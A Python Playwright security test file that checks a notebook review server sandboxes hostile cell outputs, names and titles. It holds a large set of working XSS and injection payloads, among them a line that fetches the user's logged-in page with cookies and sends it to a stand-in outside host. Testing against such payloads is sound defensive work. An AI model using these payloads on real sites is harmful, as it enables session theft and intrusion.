"""Outputs that do their worst in a real browser: nothing leaves, nothing is reached, nothing acts."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.server.review.browser import NEEDED, Elsewhere, idle, signed_in, started
from tests.server.review.conftest import ALICE, code, data, on_a_port, stream, write

pytestmark = [pytest.mark.security, NEEDED]

# By name: what an output says. E is elsewhere, H is the pages' own address.
SVG_DATA = base64.b64encode(
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='top.hacked=1'><script>top.hacked=1</script></svg>"
).decode()
HTML = {
    "script": "<script>top.hacked=1; parent.hacked=1; fetch('E/script')</script>",
    "script from elsewhere": "<script src='E/script.js'></script>",
    "module": "<script type=module>import 'E/module.js'</script>",
    "our own script's closing tag": "</script></main></body></html><script>parent.hacked=1</script>",
    "json's closing tag": "\\u003c/script><script>parent.hacked=1</script>",
    "handlers": "<img src=x onerror='parent.hacked=1;fetch(`E/handler`)'><body onload='parent.hacked=1'>"
    "<details open ontoggle='parent.hacked=1'>x</details><video onloadstart='parent.hacked=1'><source></video>"
    "<style>@keyframes x{}</style><b style='animation:x 1ms' onanimationstart='parent.hacked=1'>x</b>",
    "clobbering": "<form name=body><input name=firstChild></form><img name=getElementById>"
    "<img name=createElement><form id=rmi-place><input name=append></form><img name=documentElement>",
    "beacon": "<img src='E/beacon.png' srcset='E/beacon2.png 2x'><picture><source srcset='E/p'><img></picture>",
    "picture with our cookie": "<img src='H/review/static/icon.svg'><img src='H/'>",
    "css": "<style>@import 'E/import.css'; @font-face{font-family:f;src:url(E/font)}"
    "*{background:url(E/background);font-family:f;cursor:url(E/cursor),auto;list-style:url(E/list)}"
    "b::after{content:url(E/content)} a{mask:url(E/mask);filter:url(E/f.svg#x)}</style><b>x</b><a>y</a>"
    "<p style='background-image:image-set(\"E/set\" 1x)'>x</p><link rel=stylesheet href='E/link.css'>",
    "css over the page": "<style>body{position:fixed;inset:0;width:9999px;height:9999px;z-index:99999}</style>"
    "<div style='position:fixed;inset:-9999px;background:red;z-index:999999'>Sign in: <input></div>",
    "iframes": "<iframe src='H/mcp'></iframe><iframe src='E/frame'></iframe><iframe src='H/'></iframe>"
    "<iframe srcdoc='<script>top.hacked=1</script><img src=E/srcdoc>'></iframe>"
    "<iframe src='javascript:top.hacked=1'></iframe><iframe src='data:text/html,<img src=E/data>'></iframe>",
    "objects": "<object data='E/object'></object><embed src='E/embed'><applet code='E/applet'></applet>"
    "<object data='data:text/html,<script>parent.parent.hacked=1</script>'></object>",
    "refresh": "<meta http-equiv=refresh content='0;url=E/refresh'><meta http-equiv=refresh content='0;H/'>",
    "refresh in a table": "<table><meta http-equiv=refresh content='0;url=E/refresh'></table>",
    "base": "<base href='E/'><a href='base-link' class=click>x</a><img src='base.png'>",
    "links": "<a class=click href='E/link'>elsewhere</a><a class=click target=_blank href='E/blank'>blank</a>"
    "<a class=click target=_top href='E/top'>top</a><a class=click target=_parent href='H/'>parent</a>"
    "<a class=click ping='E/ping' href='#here'>ping</a><a class=click download href='E/download'>get</a>"
    "<a class=click href='javascript:parent.hacked=1'>js</a><a class=click href='\tjava\nscript:top.hacked=1'>js</a>"
    "<svg width=50 height=20><a class=click href='E/svg' xlink:href='E/xlink'><text y=15>svg</text></a></svg>",
    "animated link": "<svg width=90 height=20><a class=click><set attributeName=href to='E/set'/>"
    "<animate attributeName='xlink:href' values='javascript:top.hacked=1'/><text y=15>anim</text></a></svg>",
    "map": "<img usemap='#m' width=30 height=30 class=click><map name=m><area shape=default href='E/area'></map>",
    "forms": "<form action='H/' method=post><input name=x><button class=click>send</button></form>"
    "<form action='E/form'><button class=click>send</button></form>"
    "<form id=f></form><button form=f formaction='E/formaction' formmethod=post class=click>x</button>"
    "<form action='javascript:top.hacked=1'><button class=click>x</button></form>",
    "hints": "<link rel=prefetch href='E/prefetch'><link rel=preconnect href='E'><link rel=dns-prefetch href='E'>"
    "<link rel=prerender href='E/prerender'><link rel=preload as=image href='E/preload'>"
    "<link rel=modulepreload href='E/mp'><link rel=icon href='E/icon'><link rel=manifest href='E/manifest'>"
    '<script type=speculationrules>{"prefetch":[{"urls":["E/spec"]}]}</script>',
    "media": "<video src='E/video' autoplay></video><audio src='E/audio' autoplay></audio>"
    "<video poster='E/poster'></video><track src='E/track'>",
    "worker and windows": "<script>navigator.serviceWorker.register('/x.js');window.open('E/open');"
    "new Worker('E/worker');new WebSocket('E');navigator.sendBeacon('E/b');alert(1);print()</script>",
    "messages": "<script>for(;;)parent.postMessage({rmiHeight:1e9},'*')</script>",
    "credentials": "<script>fetch('H/',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('E/'+t));"
    "fetch('H/mcp',{method:'POST',credentials:'include'})</script>",
    "svg in html": f"<svg onload='parent.hacked=1'><script>parent.hacked=1</script><image href='E/image'/>"
    f"<use href='E/use.svg#x'/><feImage href='E/fe'/><foreignObject><img src='E/fo'></foreignObject></svg>"
    f"<img src='data:image/svg+xml;base64,{SVG_DATA}'>",
    "templates": "<template shadowrootmode=open><img src='E/shadow'><script>parent.hacked=1</script></template>"
    "<template><img src='E/template'></template><noscript><img src='E/noscript'></noscript>",
    "mutation": "<svg></p><style><a id='</style><img src=E/mut onerror=parent.hacked=1>'>"
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=E/m2 onerror=parent.hacked=1>'>",
    "taller than anything": "<div style='height:10000000px'>x</div>",
    "grows with its frame": "<div style='height:200vh'>x</div>",
    "tries to be focused": "<input autofocus><div tabindex=0 autofocus>x</div><dialog open>x</dialog>",
}
MARKED = "<p>shown</p>"


def told(text: str, elsewhere: str, here: str) -> str:
    """An output with the addresses in their places."""
    return (
        text.replace("E/", f"{elsewhere}/")
        .replace("'E'", f"'{elsewhere}'")
        .replace("H/", f"{here}/")
    )


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with started() as running:
        yield running


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    made = Elsewhere()
    yield made
    made.close()


def seen_by(page: Page) -> list[str]:
    """What a page and its frames do, as it happens."""
    did: list[str] = []
    page.on("dialog", lambda dialog: (did.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("download", lambda download: did.append(f"download {download.url}"))
    page.on("worker", lambda worker: did.append(f"worker {worker.url}"))
    page.context.on("page", lambda opened: did.append(f"window {opened.url}"))
    return did


def test_no_hostile_output_loads_reaches_or_does_anything(
    folder: Path, browser: Browser, elsewhere: Elsewhere
) -> None:
    asked: list[tuple[str, str]] = []
    with on_a_port(folder, asked) as url:
        cells = [
            code(name, data("text/html", told(text, elsewhere.url, url) + MARKED))
            for name, text in HTML.items()
        ]
        cells += [
            code(
                "svg", data("image/svg+xml", told(HTML["svg in html"], elsewhere.url, url) + MARKED)
            ),
            code(
                "md",
                data(
                    "text/markdown", told("\n\n".join(HTML.values()), elsewhere.url, url) + MARKED
                ),
            ),
            {"cell_type": "markdown", "source": told(HTML["script"], elsewhere.url, url) + MARKED},
        ]
        write(folder, "hostile", *cells)
        context = browser.new_context(viewport={"width": 1000, "height": 800})
        page = signed_in(context, f"{url}/sessions/hostile", ALICE)
        did = seen_by(page)
        frames = page.locator("iframe")
        assert frames.count() == len(cells)
        for place in range(len(cells)):
            frames.nth(place).scroll_into_view_if_needed()
            inside = frames.nth(place).content_frame
            # The frame works, and what is harmless in it is shown.
            expect(inside.locator("html.rmi-shown")).to_be_attached()
            expect(inside.get_by_text("shown", exact=True).first).to_be_attached()
            for link in inside.locator(".click").all():
                link.dispatch_event("click")
            for link in inside.locator("a.click, button.click").all():
                link.click(force=True, timeout=1_000, no_wait_after=True)
        idle(page)
        for frame in page.frames[1:]:
            assert frame.url.startswith(f"{url}/sessions/hostile/output/"), frame.url
            assert frame.evaluate("window.origin") == "null"
        assert page.evaluate("[window.hacked, window.length, window.scrollX]") == [
            None,
            len(cells),
            0,
        ]
        assert page.url == f"{url}/sessions/hostile"
        expect(page.get_by_role("heading", level=1)).to_have_text("script")
        heights = page.evaluate("[...document.querySelectorAll('iframe')].map(f => f.clientHeight)")
        assert max(heights[:-2]) <= 3_000 and max(heights) <= 20_000
        own = {f"/sessions/hostile/output/{n}/0/frame" for n in range(1, len(cells) + 1)}
        own |= {"/sessions/hostile", "/review/sign-in"}
        own |= {f"/review/static/{name}" for name in ("review.css", "review.js", "icon.svg")}
        assert {path for _, path in asked} == own
        assert [path for method, path in asked if method != "GET"] == ["/review/sign-in"]
        assert did == []
        assert (
            page.evaluate("navigator.serviceWorker.getRegistrations().then(all => all.length)") == 0
        )
        context.close()
    assert elsewhere.heard == []


def test_the_same_outputs_do_reach_elsewhere_where_nothing_holds_them(
    browser: Browser, elsewhere: Elsewhere
) -> None:
    # Without this, the test above could pass because nothing was ever tried.
    page = browser.new_page()
    did = seen_by(page)
    page.set_content(
        told(HTML["beacon"] + HTML["script"] + HTML["css"], elsewhere.url, elsewhere.url)
    )
    page.wait_for_function("() => window.hacked === 1")
    page.evaluate("alert('x')")
    page.close()
    asked = b" ".join(elsewhere.heard)
    assert b"/beacon" in asked
    assert b"/import.css" in asked
    assert did == ["dialog x"]


def test_frames_are_opened_with_the_strict_cookie_and_by_nobody_without(
    folder: Path, browser: Browser
) -> None:
    write(folder, "framed", code("x", data("text/html", "<b>inside</b>")))
    with on_a_port(folder) as url:
        context = browser.new_context()
        page = signed_in(context, f"{url}/sessions/framed", ALICE)
        expect(page.locator("iframe").content_frame.get_by_text("inside")).to_be_visible()
        # A page of another site frames it, and has neither cookie nor leave.
        other = context.new_page()
        other.route(
            "http://localhost:1/*",
            lambda route: route.fulfill(
                body=f"<iframe src='{url}/sessions/framed/output/1/0/frame'></iframe>"
                f"<img src='{url}/sessions/framed/thumbnail'>",
                content_type="text/html",
            ),
        )
        statuses: list[int] = []
        other.on("response", lambda r: r.url.startswith(url) and statuses.append(r.status))
        other.goto("http://localhost:1/evil")
        other.wait_for_load_state("networkidle")
        assert set(statuses) <= {401}
        assert "inside" not in "".join(frame.content() for frame in other.frames)
        context.close()


def test_floods_of_messages_move_nothing(folder: Path, browser: Browser) -> None:
    write(folder, "messages", code("x", data("text/html", "<b>inside</b>")))
    with on_a_port(folder) as url:
        context = browser.new_context()
        page = signed_in(context, f"{url}/sessions/messages", ALICE)
        frame = page.frames[-1]
        frame.wait_for_selector("html.rmi-shown")
        # As if a script of the output did run after all.
        for message in (
            "{rmiHeight: 1e12}",
            "{rmiHeight: -5}",
            "{rmiHeight: NaN}",
            "null",
            "'x'",
            "{rmiHeight: {}}",
            "{rmiHeight: '<img>'}",
            "[1]",
            "{rmiHeight: Infinity}",
        ):
            frame.evaluate(f"parent.postMessage({message}, '*')")
        frame.evaluate(
            "for (let n = 0; n < 20000; n++) parent.postMessage({rmiHeight: n % 2 * 900 + 100}, '*')"
        )
        idle(page)
        assert 24 <= page.evaluate("document.querySelector('iframe').clientHeight") <= 3_000
        # A window that is no frame of an output is not listened to.
        before = page.evaluate("document.querySelector('iframe').clientHeight")
        page.evaluate("window.postMessage({rmiHeight: 777}, '*')")
        idle(page)
        assert page.evaluate("document.querySelector('iframe').clientHeight") == before
        context.close()


def test_hostile_text_names_and_titles_are_text(folder: Path, browser: Browser) -> None:
    evil = "<img src=x onerror=top.hacked=1>"
    name = "<b onclick=1>&\"'%2e%2e #?=é"
    write(
        folder,
        name,
        code(
            evil,
            stream(f"{evil}\x1b[31m{evil}\x1b]8;;javascript:top.hacked=1\x07link\x1b]8;;\x07"),
            data("text/plain", evil),
            data(evil, evil),
            data("text/latex", f"${evil}$"),
            {"output_type": "error", "ename": evil, "evalue": evil, "traceback": [evil]},
            notes=[evil],
            error_name=evil,
            path=f"/x/{evil}",
        ),
    )
    with on_a_port(folder) as url:
        context = browser.new_context()
        page = signed_in(context, f"{url}/", ALICE)
        did = seen_by(page)
        page.get_by_role("heading", level=2).get_by_role("link").click()
        expect(page.get_by_role("heading", level=1)).to_have_text(evil)
        assert page.locator("img").count() == 0
        assert page.evaluate("window.hacked") is None
        with page.expect_download() as download:
            page.get_by_role("link", name="Notebook .ipynb").click()
        assert "/" not in download.value.suggested_filename
        assert [one for one in did if not one.startswith("download")] == []
        context.close()
